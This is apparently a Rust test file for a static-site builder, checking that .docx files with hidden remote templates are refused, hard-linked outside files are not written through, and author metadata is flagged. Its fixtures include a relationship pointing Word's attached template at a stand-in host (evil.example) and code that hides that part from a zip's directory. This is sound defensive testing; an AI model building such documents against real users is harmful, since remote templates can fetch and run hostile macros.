//! The hostile-input and careless-input findings fixed in the nineteenth
//! round.

mod common;

use common::office::{package, plain_docx, site_linking};
use common::{message_at, tree};

const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
/// Relationships that attach a template from another host: Word fetches
/// it on opening.
const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// A Word document whose outside template sits in a part the directory
/// names `word/_rels/settings.xml.relx` (no relationships part, so not
/// read), while the part's own header names it `….rels`.
fn docx_renamed_in_its_header() -> Vec<u8> {
    let mut bytes = package(&[
        ("word/document.xml", DOCUMENT),
        ("word/_rels/settings.xml.relx", REMOTE),
    ]);
    // The part's own header comes first, the directory's entry after.
    let from = b"settings.xml.relx";
    let at = bytes.windows(from.len()).position(|w| w == from).unwrap();
    bytes[at..at + from.len()].copy_from_slice(b"settings.xml.rels");
    bytes
}

/// A Word document whose outside template is in a part the directory does
/// not list: its entry is taken out of the directory, whose end record is
/// made to count one part fewer.
fn docx_with_a_part_left_out_of_its_directory() -> Vec<u8> {
    let bytes = package(&[
        ("word/document.xml", DOCUMENT),
        ("word/_rels/settings.xml.rels", REMOTE),
    ]);
    let u16_at = |at: usize| usize::from(u16::from_le_bytes([bytes[at], bytes[at + 1]]));
    let u32_at = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
    let end = bytes.len() - 22;
    let (count, start) = (u16_at(end + 10), u32_at(end + 16));
    let mut directory = Vec::new();
    let mut at = start;
    while at < end {
        let len = 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
        if !bytes[at + 46..at + len].starts_with(b"word/_rels/") {
            directory.extend(&bytes[at..at + len]);
        }
        at += len;
    }
    let mut out = bytes[..start].to_vec();
    out.extend(&directory);
    let mut record = bytes[end..].to_vec();
    for field in [8, 10] {
        record[field..field + 2].copy_from_slice(&((count - 1) as u16).to_le_bytes());
    }
    record[12..16].copy_from_slice(&(directory.len() as u32).to_le_bytes());
    out.extend(record);
    out
}

/// A document's parts were read as the zip's directory lists them, and a
/// part's own header was never compared with it: a `.docx` whose outside
/// template sits in a part the directory leaves out, or names otherwise
/// than the part's header does, was published, though a program that
/// reads the parts in order (a streaming reader, a repair of a file found
/// damaged) opens the template. Now such a document is not published (an
/// error naming the part), the previous output left as it was; the same
/// parts in an ordinary zip are refused for the template, and a plain
/// document is published.
#[test]
fn an_office_document_with_a_part_its_directory_hides_is_not_published() {
    for (bytes, said) in [
        (
            docx_renamed_in_its_header(),
            "its part `word/_rels/settings.xml.relx` is named `word/_rels/settings.xml.rels` in its own header, and a program that reads the parts in order opens it under that name",
        ),
        (
            docx_with_a_part_left_out_of_its_directory(),
            "it holds a part its directory does not list (`word/_rels/settings.xml.rels`) at byte ",
        ),
    ] {
        let (site, before) = site_linking("report.docx", &bytes);
        let o = site.build();
        assert_eq!(o.code, 1, "{}", o.stderr);
        let (line, hint) = message_at(&o.stderr, "guidance/handbook/report.docx");
        assert!(
            line.contains(&format!("error: not published: cannot check what the document fetches or runs when opened, or who wrote it: {said}")),
            "{line}"
        );
        assert!(
            hint.starts_with("open it in the program that made it and save it again"),
            "{hint}"
        );
        assert_eq!(tree(&site.out()), before, "the output changed");
    }
    // The same template in a part the directory lists is refused for it.
    let listed = package(&[
        ("word/document.xml", DOCUMENT),
        ("word/_rels/settings.xml.rels", REMOTE),
    ]);
    common::office::refused("report.docx", &listed, &["https://evil.example/t.dotm"]);
    // Not a false alarm: a plain document, and one holding another
    // document whose headers are stored as they are, are published.
    let inner = plain_docx();
    let holding = {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let stored = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        w.start_file("word/document.xml", stored).unwrap();
        w.write_all(DOCUMENT.as_bytes()).unwrap();
        w.start_file("word/embeddings/Microsoft_Word_Document.docx", stored)
            .unwrap();
        w.write_all(&inner).unwrap();
        w.finish().unwrap().into_inner()
    };
    for bytes in [inner.clone(), holding] {
        let (site, _) = site_linking("report.docx", &bytes);
        let o = site.build_ok();
        assert!(!o.stderr.contains("report.docx"), "{}", o.stderr);
        assert_eq!(
            std::fs::read(site.out().join("en/handbook/report.docx")).unwrap(),
            bytes
        );
    }
}

/// What README's Guarantees row on reading nothing outside the site says
/// of hard links, which the section above it described and no test
/// showed: a hard link is the file itself, not a pointer fieldguide could
/// see and refuse, so a page and a file hard-linked into `guidance/` from
/// a folder outside the site are read as copies there would be (the
/// output is the same), and `stamp` replaces the page's name in the site
/// rather than writing through to the file outside, which keeps its
/// bytes.
#[cfg(unix)]
#[test]
fn files_hard_linked_in_from_outside_are_read_as_copies_and_never_written() {
    let page = "guidance/handbook/01-intro.fr.md";
    let notes = "guidance/handbook/notes.txt";
    let build = |hard_link: bool| {
        let site = common::Site::signs_with("[Notes](notes.txt)\n");
        // Beside the site, on the same file system (a hard link needs it).
        let outside = tempfile::tempdir_in(site.path().parent().unwrap()).unwrap();
        let (page_out, notes_out) = (
            outside.path().join("intro.md"),
            outside.path().join("n.txt"),
        );
        std::fs::rename(site.path().join(page), &page_out).unwrap();
        std::fs::write(&notes_out, "words kept outside the site\n").unwrap();
        for (from, to) in [(&page_out, page), (&notes_out, notes)] {
            match hard_link {
                true => std::fs::hard_link(from, site.path().join(to)).unwrap(),
                false => drop(std::fs::copy(from, site.path().join(to)).unwrap()),
            }
        }
        site.build_ok();
        (site, outside, page_out)
    };
    let (copied, _, _) = build(false);
    let (linked, _outside, page_out) = build(true);
    // The manifest aside, whose seal is each output folder's own.
    let pages = |site: &common::Site| {
        let mut t = tree(&site.out());
        t.remove(".fieldguide-output").unwrap();
        t
    };
    assert!(pages(&linked) == pages(&copied), "the outputs differ");
    assert_eq!(
        std::fs::read_to_string(linked.out().join("en/handbook/notes.txt")).unwrap(),
        "words kept outside the site\n"
    );
    let before = std::fs::read(&page_out).unwrap();
    let o = linked.run(&["stamp", page]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(linked.read(page).contains("translation_of: "));
    assert_eq!(std::fs::read(&page_out).unwrap(), before, "written through");
}

/// Word finds a part whatever the capitals of its name (`DocProps/Core.xml`
/// is `docProps/core.xml`), but the document's author was looked up in
/// `docProps/core.xml` alone: a `.docx` whose properties part was named in
/// other capitals was published without the warning naming who wrote it.
/// Now the warning names them whatever the capitals; a document without
/// properties still says nothing.
#[test]
fn an_author_in_a_properties_part_named_in_other_capitals_is_named() {
    let core = "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>Amina Yusuf</dc:creator></cp:coreProperties>";
    for name in ["docProps/core.xml", "DocProps/Core.XML"] {
        let bytes = package(&[("word/document.xml", DOCUMENT), (name, core)]);
        let (site, _) = site_linking("report.docx", &bytes);
        let o = site.build_ok();
        let (line, _) = message_at(&o.stderr, "guidance/handbook/report.docx");
        assert!(
            line.ends_with("warning: the published copy keeps who wrote or edited it (`Amina Yusuf`): anyone who downloads it can read them"),
            "{name}: {line}"
        );
        assert_eq!(
            std::fs::read(site.out().join("en/handbook/report.docx")).unwrap(),
            bytes
        );
    }
    let (site, _) = site_linking("report.docx", &plain_docx());
    let o = site.build_ok();
    assert!(!o.stderr.contains("report.docx"), "{}", o.stderr);
}
